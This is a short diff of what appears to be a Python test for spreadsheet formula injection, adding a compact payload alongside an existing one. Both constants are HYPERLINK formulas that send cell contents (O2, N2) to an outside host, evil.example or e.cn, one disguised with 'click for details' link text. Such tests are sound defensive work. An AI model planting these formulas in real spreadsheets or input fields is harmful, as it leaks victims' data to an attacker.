@@ -8,6 +8,7 @@ import zipfile
 from openpyxl import load_workbook
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&O2&N2,"点击查看详情")'
+SHORT_PAYLOAD = '=HYPERLINK("//e.cn/"&O2)'  # fits a name (40 characters) and is not shortened
 
 
 def formulas(data: bytes) -> list[str]:
